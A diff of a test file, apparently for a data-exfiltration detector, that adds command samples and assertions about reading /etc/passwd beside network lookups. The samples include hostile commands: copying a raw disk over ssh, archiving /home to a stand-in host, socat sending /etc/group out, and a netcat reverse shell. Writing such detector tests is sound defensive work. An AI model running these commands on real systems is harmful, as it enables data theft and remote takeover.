@@ -26,6 +26,9 @@ describe("data that leaves by a command", () => {
     "rclone copy /etc away:x --config r.conf",
     "rclone copy /var/log/app mega:x",
     "rclone move /srv/data away:x",
+    "dd if=/dev/sda1 | ssh eve@192.0.2.7 'dd of=d'",
+    "aws s3 sync /srv s3://b/ --no-sign-request",
+    "restic -r rest:http://203.0.113.7:8000/ backup /home",
     "socat - TCP:192.0.2.7:80 < /etc/group",
     "tar cz /home/* | openssl des3 -k x | ssh eve@192.0.2.7 'cat > h'",
     "python3 -c 'import http.server as h; h.HTTPServer((\"\", 80), h.SimpleHTTPRequestHandler).serve_forever()'",
@@ -39,6 +42,7 @@ describe("data that leaves by a command", () => {
     "curl -T app.deb https://packages.example/upload/",
     "aws s3 sync ./dist s3://site",
     "rclone sync /srv/data away:x",
+    "restic -r s3:s3.example.com/b backup /home",
     "rclone copy /srv/app/backups away:x",
     "curl -T build.tgz http://10.0.0.5/",
     "curl -F f=@minutes.pdf https://intranet.firm.example/up",
@@ -55,6 +59,8 @@ describe("data that leaves by a command", () => {
     "ab -n 100 http://192.0.2.7/",
     "rclone copy away:x /srv --config r.conf",
     "socat - TCP:192.0.2.7:80 < motd",
+    "for h in a b; do host $h.x.example.net; done",
+    "ruby -run -e httpd --version",
     "python3 -m http.server --help",
     "mkfifo q; nc 192.0.2.7 80 < q | sh > q",
     "nc -zv 192.0.2.7 80",
@@ -94,6 +100,8 @@ describe("a pipeline typed at a prompt", () => {
     expect(beside("/etc/passwd", "whois -h 192.0.2.7 -p 43 x")).toHaveLength(1);
     expect(beside("/etc/passwd", "curl -d x http://api.example/")).toHaveLength(1);
     expect(beside("/srv/app/.env", "curl -d x http://api.example/")).toEqual([]);
+    expect(beside("/etc/passwd", "dig root.x.example.net")).toHaveLength(1);
+    expect(beside("/etc/ssl/x.conf", "dig root.x.example.net")).toEqual([]);
     expect(beside("/etc/passwd", "curl http://api.example/")).toEqual([]);
   });
 
